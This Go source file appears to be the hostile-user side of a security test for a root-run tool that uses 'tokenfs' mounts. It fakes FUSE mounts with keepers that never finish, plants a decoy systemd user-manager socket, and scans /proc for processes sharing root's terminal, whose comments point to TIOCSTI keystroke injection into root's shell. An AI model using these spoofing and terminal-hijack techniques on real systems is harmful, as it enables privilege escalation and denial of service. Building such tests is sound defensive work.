package attack

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

const hostileName = "hostile"

// hostileMain is this program as a hostile user while root's scripts run: argv are
// the runtime directory, the terminal of root's, and the number of mounts to make
// that look like tokenfs. It prints each process of the user's that it finds on
// that terminal: it could type there, into root's shell (TIOCSTI).
func hostileMain() {
	runtime, terminal := os.Args[1], os.Args[2]
	mounts, err := strconv.Atoi(os.Args[3])
	for i := range mounts {
		if err == nil {
			err = fakeMount(filepath.Join(runtime, fmt.Sprintf("fake%d", i)))
		}
	}
	if err == nil {
		err = plantManager(runtime)
	}
	if err != nil {
		fmt.Println("trouble:", err)
		os.Exit(1)
	}
	fmt.Println("ready")
	for {
		all, _ := filepath.Glob("/proc/[0-9]*")
		for _, dir := range all {
			if onTerminal(dir, terminal) {
				comm, _ := os.ReadFile(dir + "/comm")
				fmt.Printf("found %s\n", bytes.TrimSpace(comm))
			}
		}
	}
}

// onTerminal says whether a process of this user has a terminal open.
func onTerminal(dir, terminal string) bool {
	var st unix.Stat_t
	if unix.Stat(dir, &st) != nil || int(st.Uid) != os.Getuid() {
		return false
	}
	for fd := range 3 {
		if to, err := os.Readlink(fmt.Sprintf("%s/fd/%d", dir, fd)); err == nil && to == terminal {
			return true
		}
	}
	return false
}

// fakeMount mounts as a user does, and answers for the mount as a keeper that
// never upgrades, unmounts or ends.
func fakeMount(dir string) error {
	if err := os.MkdirAll(dir, 0o700); err != nil {
		return err
	}
	pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	helper := exec.Command("fusermount3", "-o", "fsname=tokenfs,subtype=tokenfs", "--", dir)
	helper.ExtraFiles = []*os.File{os.NewFile(uintptr(pair[1]), "comm")}
	helper.Env = append(os.Environ(), "_FUSE_COMMFD=3")
	if out, err := helper.CombinedOutput(); err != nil {
		return fmt.Errorf("fusermount3: %w: %s", err, out)
	}
	data, oob := make([]byte, 1), make([]byte, unix.CmsgSpace(4))
	if _, _, _, _, err := unix.Recvmsg(pair[0], data, oob, 0); err != nil { // the descriptor stays open, unserved
		return err
	}
	dev := ""
	table, err := os.ReadFile("/proc/self/mountinfo")
	for line := range strings.Lines(string(table)) {
		if f := strings.Fields(line); f[4] == dir {
			dev = f[2]
		}
	}
	if err != nil {
		return err
	}
	l, err := net.Listen("unix", dir+".sock")
	if err != nil {
		return err
	}
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				for lines := bufio.NewScanner(conn); lines.Scan(); {
					if strings.Contains(lines.Text(), `"status"`) {
						json.NewEncoder(conn).Encode(map[string]any{"v": 1, "dev": dev, "status": map[string]any{"format_version": 1}})
					} else {
						time.Sleep(time.Hour)
					}
				}
			}()
		}
	}()
	return nil
}

// plantManager listens where a user manager would, and answers nobody.
func plantManager(runtime string) error {
	if err := os.MkdirAll(runtime+"/systemd", 0o700); err != nil {
		return err
	}
	_, err := net.Listen("unix", runtime+"/systemd/private")
	return err
}
